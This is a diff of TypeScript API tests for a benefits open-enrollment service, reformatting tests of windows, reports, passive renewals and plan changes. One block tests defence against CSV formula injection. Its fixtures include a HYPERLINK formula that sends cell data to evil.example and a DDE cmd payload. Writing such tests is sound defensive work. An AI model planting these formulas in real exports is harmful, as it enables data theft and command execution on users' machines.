@@ -23,7 +23,8 @@ afterAll(async () => {
   await t.close();
 });
 
-const fieldPaths = (response: { body: { input_errors?: { field_path: string[] }[] } }) => (response.body.input_errors ?? []).map((error) => error.field_path.join('.'));
+const fieldPaths = (response: { body: { input_errors?: { field_path: string[] }[] } }) =>
+  (response.body.input_errors ?? []).map((error) => error.field_path.join('.'));
 
 async function submit(w: EnrollmentWorld, member: string, body: Record<string, unknown> = {}) {
   const enrollment = await createEnrollment(w, { member, enrolled_plans: [{ plan: w.plans.medical.id }], ...body });
@@ -54,10 +55,17 @@ describe('window lifecycle', () => {
       metadata: { cycle: '2027' },
       created_at: t.clock.now().toISOString(),
     });
-    const dated = await ok(w.admin.patch(`/open_enrollment_windows/${created.id}`, { start_date: '2026-05-01', end_date: '2026-05-15', renewal_date: '2026-06-01' }));
+    const dated = await ok(
+      w.admin.patch(`/open_enrollment_windows/${created.id}`, { start_date: '2026-05-01', end_date: '2026-05-15', renewal_date: '2026-06-01' }),
+    );
     expect(dated.status).toBe('setup_required');
     const built = await ok(w.admin.patch(`/open_enrollment_windows/${created.id}`, { plans: [w.plans.medical.id, w.plans.dental.id] }));
-    expect(built).toMatchObject({ status: 'build_in_progress', plans: [w.plans.medical.id, w.plans.dental.id], completed_member_count: 0, incomplete_member_count: 1 });
+    expect(built).toMatchObject({
+      status: 'build_in_progress',
+      plans: [w.plans.medical.id, w.plans.dental.id],
+      completed_member_count: 0,
+      incomplete_member_count: 1,
+    });
     const emptied = await ok(w.admin.patch(`/open_enrollment_windows/${created.id}`, { plans: [] }));
     expect(emptied.status).toBe('setup_required');
     expect((await w.admin.get(`/open_enrollment_windows/${created.id}`)).body).toEqual(emptied);
@@ -65,7 +73,13 @@ describe('window lifecycle', () => {
 
   it('when driven through its states, then each action is allowed only from its state (409 invalid_state otherwise)', async () => {
     const window = await ok(
-      w.admin.post('/open_enrollment_windows', { employer: w.employer.id, start_date: '2026-06-01', end_date: '2026-06-15', renewal_date: '2026-07-01', plans: [w.plans.medical.id] }),
+      w.admin.post('/open_enrollment_windows', {
+        employer: w.employer.id,
+        start_date: '2026-06-01',
+        end_date: '2026-06-15',
+        renewal_date: '2026-07-01',
+        plans: [w.plans.medical.id],
+      }),
       201,
     );
     expect(window.status).toBe('build_in_progress');
@@ -92,7 +106,7 @@ describe('window lifecycle', () => {
     expect((await ok(w.admin.patch(path, { metadata: { note: '' } }))).metadata).toEqual({});
   });
 
-  it('when dates are out of order or plans are not the employer\'s or not offered on the renewal date, then a 400 names each field', async () => {
+  it("when dates are out of order or plans are not the employer's or not offered on the renewal date, then a 400 names each field", async () => {
     const other = await createEnrollmentWorld(t);
     const refused = await w.admin.post('/open_enrollment_windows', {
       employer: w.employer.id,
@@ -103,7 +117,13 @@ describe('window lifecycle', () => {
     });
     expect(refused.status).toBe(400);
     expect(fieldPaths(refused)).toEqual(['end_date', 'renewal_date', 'plans.0']);
-    const notOffered = await w.admin.post('/open_enrollment_windows', { employer: w.employer.id, start_date: '2026-11-01', end_date: '2026-11-30', renewal_date: '2027-01-01', plans: [w.plans.medical.id] });
+    const notOffered = await w.admin.post('/open_enrollment_windows', {
+      employer: w.employer.id,
+      start_date: '2026-11-01',
+      end_date: '2026-11-30',
+      renewal_date: '2027-01-01',
+      plans: [w.plans.medical.id],
+    });
     expect(notOffered.status).toBe(400);
     expect(fieldPaths(notOffered)).toEqual(['plans.0']);
     const unknownEmployer = await w.admin.post('/open_enrollment_windows', { employer: other.employer.id });
@@ -112,14 +132,26 @@ describe('window lifecycle', () => {
 
   it('when a window would overlap an active one of the same employer, then activation is refused; a window already over cannot be activated', async () => {
     const overlapping = await ok(
-      w.admin.post('/open_enrollment_windows', { employer: w.employer.id, start_date: '2026-03-20', end_date: '2026-04-10', renewal_date: '2026-05-01', plans: [w.plans.medical.id] }),
+      w.admin.post('/open_enrollment_windows', {
+        employer: w.employer.id,
+        start_date: '2026-03-20',
+        end_date: '2026-04-10',
+        renewal_date: '2026-05-01',
+        plans: [w.plans.medical.id],
+      }),
       201,
     );
     const refused = await w.admin.post(`/open_enrollment_windows/${overlapping.id}/activate`);
     expect(refused.status).toBe(409);
     expect(refused.body.message).toContain(w.window.id);
     const over = await ok(
-      w.admin.post('/open_enrollment_windows', { employer: w.employer.id, start_date: '2026-02-01', end_date: '2026-02-10', renewal_date: '2026-03-01', plans: [w.plans.medical.id] }),
+      w.admin.post('/open_enrollment_windows', {
+        employer: w.employer.id,
+        start_date: '2026-02-01',
+        end_date: '2026-02-10',
+        renewal_date: '2026-03-01',
+        plans: [w.plans.medical.id],
+      }),
       201,
     );
     const late = await w.admin.post(`/open_enrollment_windows/${over.id}/activate`);
@@ -131,7 +163,9 @@ describe('window lifecycle', () => {
     const other = await createEnrollmentWorld(t);
     const active = await w.admin.get(`/open_enrollment_windows?status=active&employer=${w.employer.id}`);
     expect(active.body.results.map((window: { id: string }) => window.id)).toContain(w.window.id);
-    expect(active.body.results.every((window: { status: string; employer: string }) => window.status === 'active' && window.employer === w.employer.id)).toBe(true);
+    expect(active.body.results.every((window: { status: string; employer: string }) => window.status === 'active' && window.employer === w.employer.id)).toBe(
+      true,
+    );
     expect((await w.admin.get('/open_enrollment_windows?status=nope')).status).toBe(400);
     expect((await other.admin.get(`/open_enrollment_windows/${w.window.id}`)).status).toBe(404);
     expect((await other.admin.post(`/open_enrollment_windows/${w.window.id}/close`)).status).toBe(404);
@@ -157,12 +191,23 @@ describe('kickoff and window membership of enrollments', () => {
     const w = await createEnrollmentWorld(t);
     const second = await createMember(w.admin, { employer: w.employer.id, first_name: 'Second' });
     await createMember(w.admin, { employer: w.employer.id, first_name: 'Hired Late', hire_date: '2026-05-01' });
-    const window = await activeWindow(w.admin, { employer: w.employer.id, start_date: '2026-04-01', end_date: '2026-04-15', renewal_date: '2026-05-01', plans: [w.plans.medical.id] });
+    const window = await activeWindow(w.admin, {
+      employer: w.employer.id,
+      start_date: '2026-04-01',
+      end_date: '2026-04-15',
+      renewal_date: '2026-05-01',
+      plans: [w.plans.medical.id],
+    });
     const kickoffs = await w.admin.get(`/notifications?notification_type=open_enrollment_kickoff&related_object_id=${window.id}`);
     expect(kickoffs.body.results).toHaveLength(3);
     const byOwner = Map.groupBy(kickoffs.body.results as { owner: string; payload: Record<string, string> }[], (n) => n.owner);
     expect(byOwner.get('employer')).toHaveLength(1);
-    expect(byOwner.get('member')!.map((n) => n.payload.member).sort()).toEqual([w.member.id, second.id].sort());
+    expect(
+      byOwner
+        .get('member')!
+        .map((n) => n.payload.member)
+        .sort(),
+    ).toEqual([w.member.id, second.id].sort());
   });
 
   it('when an open_enrollment enrollment is submitted, then it joins the window open that day and may elect only its plans; with no window open it is refused', async () => {
@@ -216,10 +261,19 @@ describe('counts and the incomplete members report', () => {
   it('when the report is read as JSON, then it pages over eligible members without a submitted enrollment, newest first', async () => {
     const first = await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report?page_size=1`));
     expect(first.results).toHaveLength(1);
-    expect(first.results[0]).toEqual({ member: started.id, first_name: 'Started', last_name: 'Rivera', email: null, enrollment: expect.stringMatching(/^enr_/), enrollment_status: 'not_started' });
+    expect(first.results[0]).toEqual({
+      member: started.id,
+      first_name: 'Started',
+      last_name: 'Rivera',
+      email: null,
+      enrollment: expect.stringMatching(/^enr_/),
+      enrollment_status: 'not_started',
+    });
     expect(first.previous).toBeNull();
     const second = await ok(w.admin.get(first.next));
-    expect(second.results).toEqual([{ member: idle.id, first_name: 'Idle', last_name: 'O"Brien, Jr.', email: 'idle@example.com', enrollment: null, enrollment_status: null }]);
+    expect(second.results).toEqual([
+      { member: idle.id, first_name: 'Idle', last_name: 'O"Brien, Jr.', email: 'idle@example.com', enrollment: null, enrollment_status: null },
+    ]);
     expect(second.next).toBeNull();
     expect((await w.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report?format=xml`)).status).toBe(400);
   });
@@ -231,7 +285,10 @@ describe('counts and the incomplete members report', () => {
     expect(csv.headers.get('content-disposition')).toContain('attachment');
     const lines = csv.text.trimEnd().split('\n');
     expect(lines[0]).toBe('member,first_name,last_name,email,enrollment,enrollment_status');
-    expect(lines.slice(1)).toEqual([expect.stringMatching(new RegExp(`^${started.id},Started,Rivera,,enr_\\w+,not_started$`)), `${idle.id},Idle,"O""Brien, Jr.",idle@example.com,,`]);
+    expect(lines.slice(1)).toEqual([
+      expect.stringMatching(new RegExp(`^${started.id},Started,Rivera,,enr_\\w+,not_started$`)),
+      `${idle.id},Idle,"O""Brien, Jr.",idle@example.com,,`,
+    ]);
   });
 
   it('when the window is completed, then the counts are frozen', async () => {
@@ -245,7 +302,7 @@ describe('counts and the incomplete members report', () => {
 
 describe('the incomplete members CSV and spreadsheet formulas', () => {
   // Names a spreadsheet would run as formulas (OWASP CSV injection), and names it would not.
-  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
   const harmless = ['Dana', 'O"Brien, Jr.', "'=already text", 'a=1+1', '-12.50'];
 
   it('when members are named like formulas, then each such cell is read back by a CSV parser as text after a single quote, and every other cell unchanged', async () => {
@@ -277,10 +334,20 @@ describe('the incomplete members CSV and spreadsheet formulas', () => {
     const byId = new Map(records.map((record) => [record.member, record]));
     for (const member of created) expect(byId.has(member.id), member.first_name).toBe(true);
     for (const name of formulas) {
-      expect(records.find((record) => record.first_name === `'${name}`), name).toBeDefined();
-      expect(records.find((record) => record.last_name === `'${name}`), name).toBeDefined();
+      expect(
+        records.find((record) => record.first_name === `'${name}`),
+        name,
+      ).toBeDefined();
+      expect(
+        records.find((record) => record.last_name === `'${name}`),
+        name,
+      ).toBeDefined();
     }
-    for (const name of harmless) expect(records.find((record) => record.first_name === name && record.last_name === name), name).toBeDefined();
+    for (const name of harmless)
+      expect(
+        records.find((record) => record.first_name === name && record.last_name === name),
+        name,
+      ).toBeDefined();
     expect(records.find((record) => record.email === "'=cmd@example.com")).toBeDefined();
     // No cell of the file starts with a formula character, as a spreadsheet would see it.
     for (const record of records) for (const cell of Object.values(record)) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?![0-9]+(\.[0-9]+)?$)/);
@@ -290,13 +357,26 @@ describe('the incomplete members CSV and spreadsheet formulas', () => {
 describe('complete: passive and active windows', () => {
   const runJobs = async () => {
     const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };
-    const worker = new JobWorker({ db: t.database.db, clock: t.clock, handlers: buildJobHandlers({ db: t.database.db, clock: t.clock, adapter: new SandboxCarrierAdapter() }), log: silent, batchSize: 50 });
+    const worker = new JobWorker({
+      db: t.database.db,
+      clock: t.clock,
+      handlers: buildJobHandlers({ db: t.database.db, clock: t.clock, adapter: new SandboxCarrierAdapter() }),
+      log: silent,
+      batchSize: 50,
+    });
     while ((await worker.runDueJobs()) > 0);
   };
   const buildOpenEnrollmentWindows = () => {
     const events = buildEventLog({ clock: t.clock });
     const notifier = new Notifier(t.clock, events);
-    const enrollments = new EnrollmentService(t.database.db, t.clock, notifier, events, new BenefitChangeService(t.database.db, t.clock, events), new CobraEventService(t.database.db, t.clock));
+    const enrollments = new EnrollmentService(
+      t.database.db,
+      t.clock,
+      notifier,
+      events,
+      new BenefitChangeService(t.database.db, t.clock, events),
+      new CobraEventService(t.database.db, t.clock),
+    );
     return new OpenEnrollmentWindowService(t.database.db, t.clock, notifier, events, enrollments);
   };
   async function coveredMember(w: EnrollmentWorld, name: string) {
@@ -307,7 +387,11 @@ describe('complete: passive and active windows', () => {
         member: member.id,
         category: 'carrier_sync',
         effective_start: '2026-01-01',
-        enrolled_plans: [{ plan: w.plans.medical.id, enrolled_dependents: [{ dependent: child.id }] }, { plan: w.plans.dental.id }, { plan: w.plans.vision.id }],
+        enrolled_plans: [
+          { plan: w.plans.medical.id, enrolled_dependents: [{ dependent: child.id }] },
+          { plan: w.plans.dental.id },
+          { plan: w.plans.vision.id },
+        ],
       }),
       201,
     );
@@ -318,14 +402,25 @@ describe('complete: passive and active windows', () => {
   it('when a passive window completes, then members who did nothing get their current elections carried into the new period, approved by the engine; members who acted keep theirs', async () => {
     const w = await createEnrollmentWorld(t);
     // Vision is not offered in the new window: it is not carried.
-    const window = await activeWindow(w.admin, { employer: w.employer.id, start_date: '2026-04-01', end_date: '2026-04-15', renewal_date: '2026-05-01', plans: [w.plans.medical.id, w.plans.medicalSilver.id, w.plans.dental.id], enrollment_type: 'passive' });
+    const window = await activeWindow(w.admin, {
+      employer: w.employer.id,
+      start_date: '2026-04-01',
+      end_date: '2026-04-15',
+      renewal_date: '2026-05-01',
+      plans: [w.plans.medical.id, w.plans.medicalSilver.id, w.plans.dental.id],
+      enrollment_type: 'passive',
+    });
     await ok(w.admin.post(`/open_enrollment_windows/${w.window.id}/close`));
     const idle = await coveredMember(w, 'Idle');
     const active = await coveredMember(w, 'Active');
     const uncovered = await createMember(w.admin, { employer: w.employer.id, first_name: 'Uncovered' });
     t.clock.set('2026-04-02T15:00:00.000Z');
     try {
-      const own = await createEnrollment(w, { member: active.member.id, effective_start: '2026-05-01', enrolled_plans: [{ plan: w.plans.medicalSilver.id, primary_care_provider: { full_name: 'Dr. Who' } }] });
+      const own = await createEnrollment(w, {
+        member: active.member.id,
+        effective_start: '2026-05-01',
+        enrolled_plans: [{ plan: w.plans.medicalSilver.id, primary_care_provider: { full_name: 'Dr. Who' } }],
+      });
       await ok(w.admin.post(`/enrollments/${own.id}/save_and_submit`));
       await ok(w.admin.post(`/enrollments/${own.id}/approve`));
       await ok(w.admin.post(`/open_enrollment_windows/${window.id}/close`));
@@ -339,15 +434,29 @@ describe('complete: passive and active windows', () => {
 
       const [passive, ...rest] = await enrollmentsOf(w, idle.member.id);
       expect(rest.map((e) => e.category)).toEqual(['carrier_sync']);
-      expect(passive).toMatchObject({ category: 'open_enrollment', reason: 'passive_open_enrollment', status: 'synced', effective_start: '2026-05-01', open_enrollment_window: window.id });
+      expect(passive).toMatchObject({
+        category: 'open_enrollment',
+        reason: 'passive_open_enrollment',
+        status: 'synced',
+        effective_start: '2026-05-01',
+        open_enrollment_window: window.id,
+      });
       expect(passive.enrolled_plans.map((plan: { plan: string }) => plan.plan)).toEqual([w.plans.medical.id, w.plans.dental.id]);
       expect(passive.enrolled_plans[0].enrolled_dependents.map((d: { dependent: string }) => d.dependent)).toEqual([idle.child.id]);
       const changes = await ok(w.admin.get(`/enrollments/${passive.id}/benefit_changes`));
       // The same plans and dependents carried on: nothing to send, so the enrollment is synced at once.
-      expect(changes.map((change: { line_of_coverage: string; status: string }) => [change.line_of_coverage, change.status])).toEqual([['medical', 'no_change'], ['dental', 'no_change']]);
+      expect(changes.map((change: { line_of_coverage: string; status: string }) => [change.line_of_coverage, change.status])).toEqual([
+        ['medical', 'no_change'],
+        ['dental', 'no_change'],
+      ]);
       const coverage = await ok(w.admin.get(`/members/${idle.member.id}/coverage?date=2026-05-01`));
-      expect(coverage.coverage.map((line: { enrollment: string; line_of_coverage: string }) => [line.line_of_coverage, line.enrollment === passive.id])).toEqual(
-        expect.arrayContaining([['medical', true], ['dental', true]]),
+      expect(
+        coverage.coverage.map((line: { enrollment: string; line_of_coverage: string }) => [line.line_of_coverage, line.enrollment === passive.id]),
+      ).toEqual(
+        expect.arrayContaining([
+          ['medical', true],
+          ['dental', true],
+        ]),
       );
 
       expect((await enrollmentsOf(w, active.member.id)).filter((e) => e.reason === 'passive_open_enrollment')).toEqual([]);
@@ -357,7 +466,14 @@ describe('complete: passive and active windows', () => {
       expect(report).toMatchObject({ id: window.id, status: 'completed', completed_member_count: 1 });
       const byMember = Map.groupBy(report.summaries as { member: string }[], (summary) => summary.member);
       expect(byMember.get(active.member.id)).toEqual([
-        { member: active.member.id, line_of_coverage: 'medical', status: 'change', changes: expect.arrayContaining(['plan_change']), previous_plan: w.plans.medical.id, next_plan: w.plans.medicalSilver.id },
+        {
+          member: active.member.id,
+          line_of_coverage: 'medical',
+          status: 'change',
+          changes: expect.arrayContaining(['plan_change']),
+          previous_plan: w.plans.medical.id,
+          next_plan: w.plans.medicalSilver.id,
+        },
       ]);
       expect((await ok(w.admin.get(`/open_enrollment_windows/${window.id}`))).summaries).toEqual([]);
       // Run again (a retried job): nothing new.
@@ -381,23 +497,47 @@ describe('complete: passive and active windows', () => {
 describe('the change report and moves between carriers', () => {
   it("when a member moves a line to another group's plan, then the carriers get removed and new, and the report one change with plan_change", async () => {
     const w = await createEnrollmentWorld(t);
-    await ok(w.admin.post('/enrollments', { member: w.member.id, category: 'carrier_sync', effective_start: '2026-01-01', enrolled_plans: [{ plan: w.plans.dental.id }] }), 201);
+    await ok(
+      w.admin.post('/enrollments', {
+        member: w.member.id,
+        category: 'carrier_sync',
+        effective_start: '2026-01-01',
+        enrolled_plans: [{ plan: w.plans.dental.id }],
+      }),
+      201,
+    );
     const move = await createEnrollment(w, { enrolled_plans: [{ plan: w.plans.dentalRejected.id }] });
     await ok(w.admin.post(`/enrollments/${move.id}/save_and_submit`));
     await ok(w.admin.post(`/enrollments/${move.id}/approve`));
     const changes = await ok(w.admin.get(`/enrollments/${move.id}/benefit_changes`));
-    expect(changes.map((change: { line_of_coverage: string; status: string }) => [change.line_of_coverage, change.status])).toEqual([['dental', 'removed'], ['dental', 'new']]);
+    expect(changes.map((change: { line_of_coverage: string; status: string }) => [change.line_of_coverage, change.status])).toEqual([
+      ['dental', 'removed'],
+      ['dental', 'new'],
+    ]);
     const report = await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}/change_report`));
     expect(report.summaries.filter((summary: { member: string }) => summary.member === w.member.id)).toEqual([
-      { member: w.member.id, line_of_coverage: 'dental', status: 'change', changes: ['plan_change'], previous_plan: w.plans.dental.id, next_plan: w.plans.dentalRejected.id },
+      {
+        member: w.member.id,
+        line_of_coverage: 'dental',
+        status: 'change',
+        changes: ['plan_change'],
+        previous_plan: w.plans.dental.id,
+        next_plan: w.plans.dentalRejected.id,
+      },
     ]);
   });
 });
 
-describe('renewals: members carried into next year\'s plans', () => {
+describe("renewals: members carried into next year's plans", () => {
   const runJobs = async () => {
     const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };
-    const worker = new JobWorker({ db: t.database.db, clock: t.clock, handlers: buildJobHandlers({ db: t.database.db, clock: t.clock, adapter: new SandboxCarrierAdapter() }), log: silent, batchSize: 50 });
+    const worker = new JobWorker({
+      db: t.database.db,
+      clock: t.clock,
+      handlers: buildJobHandlers({ db: t.database.db, clock: t.clock, adapter: new SandboxCarrierAdapter() }),
+      log: silent,
+      batchSize: 50,
+    });
     while ((await worker.runDueJobs()) > 0);
   };
   const newRates = compositeRates({ member: '540.00', member_spouse: '1120.00', member_family: '1720.00' });
@@ -409,7 +549,10 @@ describe('renewals: members carried into next year\'s plans', () => {
    */
   async function renewalWorld() {
     const w = await createEnrollmentWorld(t);
-    const medical2027 = await ok(w.admin.post(`/plans/${w.plans.medical.id}/renew`, { plan_name: 'Gold PPO 2027', effective_end: '2027-12-31', composite_rates: newRates }), 201);
+    const medical2027 = await ok(
+      w.admin.post(`/plans/${w.plans.medical.id}/renew`, { plan_name: 'Gold PPO 2027', effective_end: '2027-12-31', composite_rates: newRates }),
+      201,
+    );
     const life2027 = await ok(w.admin.post(`/plans/${w.plans.life.id}/renew`, { effective_end: '2027-12-31', guaranteed_issue_volume: '30000.00' }), 201);
     const member = await createMember(w.admin, { employer: w.employer.id, first_name: 'Idle', dob: '1980-01-01', hire_date: '2020-01-01' });
     const spouse = await createDependent(w.admin, { member: member.id, member_relationship: 'spouse', dob: '1981-03-03' });
@@ -423,7 +566,11 @@ describe('renewals: members carried into next year\'s plans', () => {
         effective_start: '2026-01-01',
         enrolled_plans: [
           { plan: w.plans.medical.id, enrolled_dependents: [{ dependent: spouse.id }, { dependent: child.id }, { dependent: agingOut.id }] },
-          { plan: w.plans.life.id, requested_volume: '40000.00', beneficiary_designations: [{ beneficiary: beneficiary.id, designation: 'primary', percentage: '100' }] },
+          {
+            plan: w.plans.life.id,
+            requested_volume: '40000.00',
+            beneficiary_designations: [{ beneficiary: beneficiary.id, designation: 'primary', percentage: '100' }],
+          },
           { plan: w.plans.dental.id },
         ],
       }),
@@ -435,7 +582,14 @@ describe('renewals: members carried into next year\'s plans', () => {
 
   /** A window of the renewal world's employer for the 2027 plans, renewing 2027-01-01, activated. */
   const renewalWindow = (r: Awaited<ReturnType<typeof renewalWorld>>, enrollment_type: 'active' | 'passive') =>
-    activeWindow(r.w.admin, { employer: r.w.employer.id, start_date: '2026-11-01', end_date: '2026-11-30', renewal_date: '2027-01-01', plans: [r.medical2027.id, r.life2027.id], enrollment_type });
+    activeWindow(r.w.admin, {
+      employer: r.w.employer.id,
+      start_date: '2026-11-01',
+      end_date: '2026-11-30',
+      renewal_date: '2027-01-01',
+      plans: [r.medical2027.id, r.life2027.id],
+      enrollment_type,
+    });
 
   it('when a passive window completes, then a member who did nothing moves from each renewed plan to its successor, re-priced, with the dependents still eligible and the volume within the new limit', async () => {
     const r = await renewalWorld();
@@ -469,10 +623,16 @@ describe('renewals: members carried into next year\'s plans', () => {
 
     const coverage = await ok(r.w.admin.get(`/members/${r.member.id}/coverage?date=2027-01-01`));
     expect(new Map(coverage.coverage.map((line: { line_of_coverage: string; plan: string }) => [line.line_of_coverage, line.plan]))).toEqual(
-      new Map([['medical', r.medical2027.id], ['life', r.life2027.id]]),
+      new Map([
+        ['medical', r.medical2027.id],
+        ['life', r.life2027.id],
+      ]),
     );
     const lastYear = await ok(r.w.admin.get(`/members/${r.member.id}/coverage?date=2026-12-31`));
-    expect(lastYear.coverage.find((line: { line_of_coverage: string }) => line.line_of_coverage === 'medical')).toMatchObject({ plan: r.w.plans.medical.id, effective_end: '2026-12-31' });
+    expect(lastYear.coverage.find((line: { line_of_coverage: string }) => line.line_of_coverage === 'medical')).toMatchObject({
+      plan: r.w.plans.medical.id,
+      effective_end: '2026-12-31',
+    });
   });
 
   it('when a passive window completes, then the move to the successor is the same coverage: a change (never removed + new), previous_plan set in the change report', async () => {
@@ -482,24 +642,50 @@ describe('renewals: members carried into next year\'s plans', () => {
     await ok(r.w.admin.post(`/open_enrollment_windows/${window.id}/complete`));
     await runJobs();
 
-    const passive = ((await ok(r.w.admin.get(`/enrollments?member=${r.member.id}`))).results as any[]).find((enrollment) => enrollment.reason === 'passive_open_enrollment');
+    const passive = ((await ok(r.w.admin.get(`/enrollments?member=${r.member.id}`))).results as any[]).find(
+      (enrollment) => enrollment.reason === 'passive_open_enrollment',
+    );
     const changes = await ok(r.w.admin.get(`/enrollments/${passive.id}/benefit_changes`));
-    expect(changes.map((change: any) => [change.line_of_coverage, change.status, change.changes, change.previous_enrollment_plan, change.next_enrollment_plan])).toEqual([
+    expect(
+      changes.map((change: any) => [change.line_of_coverage, change.status, change.changes, change.previous_enrollment_plan, change.next_enrollment_plan]),
+    ).toEqual([
       ['medical', 'change', ['date_change', 'dependent_change', 'contribution_change'], r.previous[r.w.plans.medical.id], passive.enrolled_plans[0].id],
       ['life', 'change', ['date_change', 'volume_change'], r.previous[r.w.plans.life.id], passive.enrolled_plans[1].id],
     ]);
 
     const report = await ok(r.w.admin.get(`/open_enrollment_windows/${window.id}/change_report`));
     expect(report.summaries).toEqual([
-      { member: r.member.id, line_of_coverage: 'medical', status: 'change', changes: ['date_change', 'dependent_change', 'contribution_change'], previous_plan: r.w.plans.medical.id, next_plan: r.medical2027.id },
-      { member: r.member.id, line_of_coverage: 'life', status: 'change', changes: ['date_change', 'volume_change'], previous_plan: r.w.plans.life.id, next_plan: r.life2027.id },
+      {
+        member: r.member.id,
+        line_of_coverage: 'medical',
+        status: 'change',
+        changes: ['date_change', 'dependent_change', 'contribution_change'],
+        previous_plan: r.w.plans.medical.id,
+        next_plan: r.medical2027.id,
+      },
+      {
+        member: r.member.id,
+        line_of_coverage: 'life',
+        status: 'change',
+        changes: ['date_change', 'volume_change'],
+        previous_plan: r.w.plans.life.id,
+        next_plan: r.life2027.id,
+      },
     ]);
   });
 
   it('when a member elects the successor in an active window, then the change report shows it as the same coverage (change, previous_plan set), and a member who did nothing loses the coverage on the renewal date', async () => {
     const r = await renewalWorld();
     const idle = await createMember(r.w.admin, { employer: r.w.employer.id, first_name: 'Idle', dob: '1980-01-01', hire_date: '2020-01-01' });
-    await ok(r.w.admin.post('/enrollments', { member: idle.id, category: 'carrier_sync', effective_start: '2026-01-01', enrolled_plans: [{ plan: r.w.plans.medical.id }] }), 201);
+    await ok(
+      r.w.admin.post('/enrollments', {
+        member: idle.id,
+        category: 'carrier_sync',
+        effective_start: '2026-01-01',
+        enrolled_plans: [{ plan: r.w.plans.medical.id }],
+      }),
+      201,
+    );
     const window = await renewalWindow(r, 'active');
     t.clock.set('2026-11-02T15:00:00.000Z');
     try {
@@ -523,11 +709,20 @@ describe('renewals: members carried into next year\'s plans', () => {
 
       const report = await ok(r.w.admin.get(`/open_enrollment_windows/${window.id}/change_report`));
       expect(report.summaries).toEqual([
-        { member: r.member.id, line_of_coverage: 'medical', status: 'change', changes: ['date_change', 'dependent_change', 'contribution_change'], previous_plan: r.w.plans.medical.id, next_plan: r.medical2027.id },
+        {
+          member: r.member.id,
+          line_of_coverage: 'medical',
+          status: 'change',
+          changes: ['date_change', 'dependent_change', 'contribution_change'],
+          previous_plan: r.w.plans.medical.id,
+          next_plan: r.medical2027.id,
+        },
       ]);
 
       // The member who did nothing in an active window keeps nothing past the plan year: no enrollment is made.
-      expect(((await ok(r.w.admin.get(`/enrollments?member=${idle.id}`))).results as { category: string }[]).map((enrollment) => enrollment.category)).toEqual(['carrier_sync']);
+      expect(((await ok(r.w.admin.get(`/enrollments?member=${idle.id}`))).results as { category: string }[]).map((enrollment) => enrollment.category)).toEqual([
+        'carrier_sync',
+      ]);
       expect((await ok(r.w.admin.get(`/members/${idle.id}/coverage?date=2026-12-31`))).coverage).toHaveLength(1);
       expect((await ok(r.w.admin.get(`/members/${idle.id}/coverage?date=2027-01-01`))).coverage).toEqual([]);
     } finally {
